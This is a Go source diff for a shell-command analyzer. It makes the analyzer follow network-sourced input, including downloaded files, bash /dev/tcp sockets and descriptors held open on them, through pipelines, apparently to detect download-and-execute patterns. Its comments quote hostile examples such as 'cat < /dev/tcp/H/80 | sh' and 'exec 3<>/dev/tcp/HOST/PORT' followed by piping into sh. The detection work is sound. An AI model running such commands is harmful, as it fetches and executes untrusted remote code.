@@ -350,6 +350,18 @@ func (w *walker) pipeline(s *syntax.Stmt, c ctx) (string, bool) {
 		for _, cmd := range w.out[start:] {
 			if cmd.PipeID == id && cmd.PipeIndex == i {
 				upstream = append(upstream, Source{Kind: "pipe", Name: cmd.Name, Args: cmd.Args, Text: cmd.String()})
+				// A stage passing on what it read from the network (a
+				// socket, a file downloaded earlier) hands the next
+				// stages a download: "cat < /dev/tcp/H/80 | sh",
+				// "cat /tmp/i.sh | sh" after "curl -o /tmp/i.sh URL".
+				for _, src := range cmd.Stdin {
+					if src.Kind == "download" {
+						upstream = append(upstream, src)
+					}
+				}
+				if passThrough[cmd.Name] && w.readsDownload(cmd.Args) {
+					upstream = append(upstream, Source{Kind: "download", Name: cmd.Name, Text: cmd.String()})
+				}
 			}
 		}
 		in = stdinInfo{sources: append([]Source(nil), upstream...), content: out, known: known, kind: "pipe"}
@@ -575,6 +587,19 @@ func (w *walker) call(s *syntax.Stmt, ce *syntax.CallExpr, c ctx, in stdinInfo) 
 				if r.Op == syntax.RdrIn {
 					in = w.fileStdin(rd.Target, w.subst)
 				}
+				// "exec 3<>/dev/tcp/HOST/PORT", then "cat <&3 | sh": the
+				// descriptor stays open on the socket for the session.
+				if r.N != nil && isNetDev(rd.Target) && (r.Op == syntax.RdrInOut || r.Op == syntax.RdrIn) {
+					if w.st.NetFds == nil {
+						w.st.NetFds = map[string]string{}
+					}
+					w.st.NetFds[r.N.Value] = rd.Target
+				}
+				if r.Op == syntax.DplIn {
+					if dev, ok := w.st.NetFds[rd.Target]; ok {
+						in = netStdin(dev)
+					}
+				}
 			}
 			switch r.Op {
 			case syntax.RdrOut, syntax.AppOut, syntax.RdrAll, syntax.AppAll, syntax.ClbOut:
@@ -618,6 +643,18 @@ func (w *walker) call(s *syntax.Stmt, ce *syntax.CallExpr, c ctx, in stdinInfo) 
 	return out, known
 }
 
+// isNetDev reports whether p is bash's network pseudo-device
+// (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT): reading it reads a socket.
+func isNetDev(p string) bool {
+	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
+}
+
+// netStdin is standard input read from a socket: what the network sends,
+// like a download.
+func netStdin(dev string) stdinInfo {
+	return stdinInfo{kind: "file", sources: []Source{{Kind: "download", Name: dev, Text: dev}}}
+}
+
 // readsDownload reports whether one of a command's operands is a file
 // the session downloaded.
 func (w *walker) readsDownload(args []string) bool {
@@ -635,6 +672,9 @@ func (w *walker) readsDownload(args []string) bool {
 func (w *walker) fileStdin(target string, subst []Source) stdinInfo {
 	if len(subst) > 0 {
 		return stdinInfo{sources: subst, kind: "procsubst", content: w.procOut, known: w.procKnown && w.procOut != ""}
+	}
+	if isNetDev(target) {
+		return netStdin(target)
 	}
 	if key, f := w.st.LookupFile(target); f != nil {
 		if w.st.earlier("file:" + key) {
